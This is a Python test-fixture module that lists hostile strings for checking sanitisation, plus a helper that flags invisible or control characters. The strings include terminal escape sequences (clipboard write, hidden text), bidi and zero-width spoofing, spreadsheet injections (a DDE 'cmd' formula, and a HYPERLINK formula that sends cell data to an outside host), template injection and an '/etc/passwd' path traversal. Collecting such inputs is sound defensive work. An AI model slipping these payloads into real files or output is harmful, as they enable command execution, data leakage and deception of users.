"""Texts that data may hold and no way out may obey: for every command, screen and page."""

from __future__ import annotations

import unicodedata

HOSTILE = {
    # terminals
    "clear screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;title\x07",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "hidden text": "\x1b[8mgone\x1b[0m",
    "link of a terminal": "\x1b]8;;http://example.org\x07here\x1b]8;;\x07",
    "8-bit control sequence": "\x9b31mred",
    "bell and backspace": "fail\x08\x08\x08\x08pass\x07",
    "carriage return": "fail\rpass",
    "line feed": "lot\n1.4 recorded 37.0 pass",
    "CR LF": "a\r\nb",
    "delete": "a\x7fb",
    "zero byte": "a\0b",
    "tab, vertical tab, form feed": "a\tb\x0bc\x0cd",
    "next line": "a\x85b",
    "group separator of a scanner": "0109501101\x1d10LOT1\x1e\x1f",
    # readers
    "override": "LOT\u202e1-TOL",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "isolate": "a\u2066b\u2069",
    "zero width": "LO\u200bT-1\u200d\u2060",
    "byte order mark": "\ufeffLOT-1",
    "line and paragraph separator": "a\u2028b\u2029c",
    "soft hyphen": "LOT\u00ad-1",
    "tag characters": "LOT\U000e0041\U000e0042",
    "variation selectors": "LOT\ufe0f\U000e0100",
    "Hangul filler": "LOT\u3164\u115f",
    "braille blank": "LOT\u2800",
    "private use": "LOT\ue000",
    "not a character": "LOT\uffff\ufffe",
    "half a pair": "LOT\ud83d",
    "escaped byte": "LOT\udc9b31m",
    "marks on nothing": "\u0301\u0338",
    "two hundred marks": "Z" + "\u0316" * 200,
    "spaces of other widths": "37.2\u00a0\u2009\u3000degC",
    # spreadsheets
    "formula": "=cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus and minus": "+1-1+cmd|'x'!A0",
    "behind a return": "x\r=1+1",
    "behind a semicolon": "x;=1+1",
    "behind quotes": '";=1+1,"',
    "full width": "＝1+1",
    "link": '=HYPERLINK("http://example.org?"&A1,"x")',
    "only a quote": '"',
    "only a comma": ",",
    # markup and templates
    "markup of the screens": "[red]x[/nope][@click=app.quit]y[/]",
    "unfinished markup": "[bold",
    "markup of the pages": "R&D <b>x</b> <img src='/etc/passwd'/> ]]> <!-- -->",
    "templates": "$x ${x} {0} {x!r} %s %n {{7*7}}",
    "references of XML": "&amp;&#27;&lt;!ENTITY",
    # numbers
    "a count of 1e60": "1e60",
    "a tower of powers": "9**9**9 kg",
    "more than a float holds": "1e400 CFU/mL",
    # lengths and scripts
    "very long": "x" * 5000,
    "empty": "",
    "spaces": "   ",
    "scripts": "日本 Жизнь عربى हिन्दी ไทย עִבְרִית e\u0301 🦠",
    # options and places
    "option": "--help-me",
    "parent folder": "../../etc/passwd",
}
"""A text by what it tries."""


UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
BLANK = {*map(chr, (0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x2800, 0x3164, 0xFFA0, *range(0x180B, 0x1810)))}
BLANK |= {*map(chr, (*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0)))}


def active(text: str) -> set[str]:
    """Give the characters of a text that a terminal or a reader would obey or not see; line feeds end lines."""
    return {c for c in set(text) if c != "\n" and (unicodedata.category(c) in UNSEEN or c in BLANK)}
